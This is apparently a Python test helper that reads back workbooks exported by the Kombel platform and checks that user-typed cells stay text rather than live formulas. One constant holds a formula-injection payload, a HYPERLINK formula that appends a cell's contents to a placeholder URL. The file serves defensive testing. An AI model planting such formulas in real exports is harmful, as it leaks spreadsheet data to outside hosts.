"""Reading back the workbooks Kombel exports: is every cell typed by a person still text?"""

import io

from openpyxl import load_workbook

# What a teacher set their name to in the security review: a live formula in the register.
FORMULA_NAME = '=HYPERLINK("http://x"&B1,"Guru 10")'


def cells(body: bytes) -> dict[str, tuple[object, str]]:
    """{"Sheet!A1": (value, openpyxl data type)} for every non-empty cell of every sheet."""
    workbook = load_workbook(io.BytesIO(body))
    return {
        f"{sheet.title}!{cell.coordinate}": (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def formulas(body: bytes) -> list[str]:
    """The cells a spreadsheet would evaluate: none may come from an export."""
    return [where for where, (_value, kind) in cells(body).items() if kind == "f"]


def text_cells_with(body: bytes, value: str) -> list[str]:
    """The cells holding exactly `value` as text."""
    return [where for where, cell in cells(body).items() if cell == (value, "s")]
